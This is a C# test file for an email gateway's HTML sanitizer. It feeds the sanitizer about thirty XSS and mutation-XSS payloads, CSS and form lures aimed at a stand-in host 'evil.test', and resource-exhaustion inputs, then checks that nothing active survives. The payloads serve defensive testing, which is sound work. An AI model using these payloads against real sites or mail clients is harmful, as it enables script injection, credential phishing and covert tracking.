using AngleSharp.Html.Parser;
using SmtpTransport.Gateway.Pages;

namespace SmtpTransport.Tests.Gateway.Pages;

/// <summary>The first of three locks: what is left of a hostile page. The browser's two are tried in a browser.</summary>
internal sealed class SafePageTests
{
    private static readonly string[] Elements =
        ["script", "noscript", "iframe", "object", "embed", "form", "input", "button", "textarea", "svg", "math", "meta", "base", "link", "video", "audio", "source", "template", "title"];

    private static readonly string[] Words = ["javascript:", "srcset", "expression", "evil.test", "text/html", "image/svg", "fixed", "@import", "@font-face", "<!--"];

    [TestCase("<script>alert(1)</script>")]
    [TestCase("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [TestCase("<img src=x onerror=alert(1)>")]
    [TestCase("<img src=https://evil.test/1.png srcset='https://evil.test/2.png 2x'>")]
    [TestCase("<body onload=alert(1) background=https://evil.test/b.png><p>x")]
    [TestCase("<a href='javascript:alert(1)'>x</a>")]
    [TestCase("<a href=' java\tscript:alert(1)'>x</a>")]
    [TestCase("<a href='&#106;avascript:alert(1)'>x</a>")]
    [TestCase("<a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [TestCase("<svg onload=alert(1)><script>alert(1)</script><foreignObject><p onclick=alert(1)></foreignObject><use href='https://evil.test/x.svg#a'/></svg>")]
    [TestCase("<svg><animate onbegin=alert(1) attributeName=x dur=1s>")]
    [TestCase("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>")]
    [TestCase("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")]
    [TestCase("<style>a{content:'</style><img src=x onerror=alert(1)>'}</style>")]
    [TestCase("<style>@import 'https://evil.test/x.css'; @font-face{font-family:a;src:url(https://evil.test/f)} p{background:url(https://evil.test/1.png)}</style><p>x")]
    [TestCase("<style>@media print{p{background-image:url(https://evil.test/1.png)}} p[title^=a]{list-style-image:url('https://evil.test/a')}</style>")]
    [TestCase("<p style='background:url(https://evil.test/1.png)'>x")]
    [TestCase("<p style='background:u\\72l(https://evil.test/1.png)'>x")]
    [TestCase("<p style='width:expression(alert(1));behavior:url(https://evil.test/x.htc);-moz-binding:url(https://evil.test/x)'>x")]
    [TestCase("<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>cover</div>")]
    [TestCase("<meta http-equiv=refresh content='0;url=https://evil.test/'><base href=https://evil.test/><link rel=stylesheet href=https://evil.test/x.css>")]
    [TestCase("<iframe src=https://evil.test/></iframe><object data=https://evil.test/></object><embed src=https://evil.test/><iframe srcdoc='<script>alert(1)</script>'></iframe>")]
    [TestCase("<form action=https://evil.test/><input name=password type=password><button formaction=https://evil.test/>Log in</button></form>")]
    [TestCase("<video src=https://evil.test/v poster=https://evil.test/p><source src=https://evil.test/s></video><audio src=https://evil.test/a>")]
    [TestCase("<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html,x'>")]
    [TestCase("<table background='https://evil.test/t.png'><tr><td background=https://evil.test/u.png>x</table>")]
    [TestCase("<a ping=https://evil.test/ href=#x>x</a><p contenteditable autofocus onfocus=alert(1)>x")]
    [TestCase("<template><img src=x onerror=alert(1)></template><title><img src=x onerror=alert(1)></title><textarea><img src=x onerror=alert(1)></textarea>")]
    public void Nothing_of_it_acts(string html)
    {
        var left = Read(html);

        using var document = new HtmlParser().ParseDocument(left);
        Assert.That(document.Body!.QuerySelectorAll("*").Select(element => element.LocalName).Intersect(Elements), Is.Empty);
        Assert.That(document.All.SelectMany(element => element.Attributes).Select(attribute => attribute.LocalName).Where(name => name.StartsWith("on", StringComparison.Ordinal)), Is.Empty);
        foreach (var word in Words)
            Assert.That(left, Does.Not.Contain(word).IgnoreCase);
    }

    [Test]
    public void Links_open_elsewhere_and_tell_nothing() =>
        Assert.That(Read("<a href='https://x.test/' target=_top onclick=a()>x</a><a href=/relative>y</a>"),
            Does.Contain("<a href=\"https://x.test/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a><a>y</a>"));

    [Test]
    public void What_a_form_says_stays_to_be_read() => Assert.That(Read("<form action=x>Answer <b>by Monday</b></form>"), Does.Contain("Answer <b>by Monday</b>"));

    [Test]
    public void Layout_stays() =>
        Assert.That(Read("<html><head><style>.a{color:red} @media (max-width:600px){.a{width:100%}}</style></head><body bgcolor='#eeeeee'><table width=600><tr><td class=a style='padding:8px'>x</td></tr></table>"),
            Does.Contain("@media").And.Contains("class=\"a\"").And.Contains("padding").And.Contains("bgcolor=\"#eeeeee\"").And.Contains("width=\"600\""));

    [Test]
    public void Own_pictures_are_found_by_their_id_and_others_not() =>
        Assert.That(Read("<img src='cid:logo%40mail.test'><img alt=gone src=cid:other><img src='data:image/png;base64,AA=='>"),
            Does.Contain("<img src=\"picture/0\">").And.Contains("<img alt=\"gone\">").And.Contains("data:image/png;base64,AA=="));

    [Test]
    public void Pictures_from_the_web_are_left_out_and_counted_unless_they_are_asked_for()
    {
        var shy = new SafePage(_ => null, withRemotePictures: false);
        var open = new SafePage(_ => null, withRemotePictures: true);
        const string Page = "<img src=https://x.test/1.png><p style='background:url(https://x.test/2.png)'>x";

        Assert.That((shy.Read(Page).Html.Contains("x.test", StringComparison.Ordinal), shy.HasRemotePictures), Is.EqualTo((false, true)));
        Assert.That(open.Read(Page).Html, Does.Contain("https://x.test/1.png").And.Contains("https://x.test/2.png"));
        Assert.That(open.HasRemotePictures, Is.False);
    }

    [Test]
    public void Pages_made_to_take_for_ever_are_cut_or_lose_their_styles([Values] Bomb bomb)
    {
        var page = new SafePage(_ => null, withRemotePictures: false);
        var html = bomb switch
        {
            Bomb.Rules => "<style>" + string.Concat(Enumerable.Repeat(".a{color:red}", 70_000)) + "</style><p>end",
            Bomb.Styles => string.Concat(Enumerable.Repeat("<p style='margin:0;color:red'>a", 30_000)),
            Bomb.Depth => string.Concat(Enumerable.Repeat("<div>", 150_000)) + "x",
            _ => "<p " + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"a{i}=1 ")) + ">x",
        };

        Assert.That(page.Read(html).Html, Has.Length.LessThan(2_000_000));
        Assert.That(page.IsCut, Is.EqualTo(bomb == Bomb.Depth));
    }

    internal enum Bomb
    {
        Rules,
        Styles,
        Depth,
        Attributes,
    }

    private static string Read(string html) => new SafePage(id => id == "logo@mail.test" ? "picture/0" : null, withRemotePictures: false).Read(html).Html;
}
